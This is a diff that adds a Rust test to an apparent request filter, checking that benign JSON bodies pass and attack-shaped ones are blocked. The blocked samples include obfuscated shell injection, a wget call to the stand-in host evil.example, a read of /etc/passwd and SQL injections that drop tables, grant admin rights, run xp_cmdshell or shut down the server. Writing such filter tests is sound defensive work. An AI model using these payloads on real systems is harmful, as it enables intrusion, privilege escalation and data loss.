@@ -238,3 +238,31 @@ fn php_calls_hidden_by_comments_or_concatenated_names_and_chained_recon_commands
         assert!(!query_blocked(good), "{good}");
     }
 }
+
+#[test]
+fn prose_names_and_regexes_pass_where_the_attack_shapes_block() {
+    let json = |body: &str| {
+        let h: [(&str, &[u8]); 2] = [("Host", b"x"), ("Content-Type", b"application/json")];
+        blocked("POST", "/api", "", &h, body.as_bytes())
+    };
+    // Names with an apostrophe inside a double-quoted string, regex quantifiers, and English
+    // that happens to follow a semicolon with an SQL verb.
+    for good in [
+        r#"{"query":"mutation { updateUser(id: 1, input: {name: \"O'Brien\"}) { id } }"}"#,
+        r#"{"regex":"^[a-z0-9._%+-]+@[a-z0-9.-]+\\.[a-z]{2,}$","other":"\\d{,5}"}"#,
+        r#"{"text":"TODO: drop table of contents from the README; update the union members list; delete old notes"}"#,
+    ] {
+        assert!(!json(good), "{good}");
+    }
+    for bad in [
+        r#"{"cmd":"x; 'wh'oami"}"#,
+        r#"{"cmd":"a && \"w\"get http://evil.example/x"}"#,
+        r#"{"cmd":"{cat,/etc/passwd}"}"#,
+        r#"{"id":"1; drop table users--"}"#,
+        r#"{"id":"1'; update users set role='admin' where name='bob'--"}"#,
+        r#"{"id":"1; exec master..xp_cmdshell 'dir'"}"#,
+        r#"{"id":"1;shutdown--"}"#,
+    ] {
+        assert!(json(bad), "{bad}");
+    }
+}
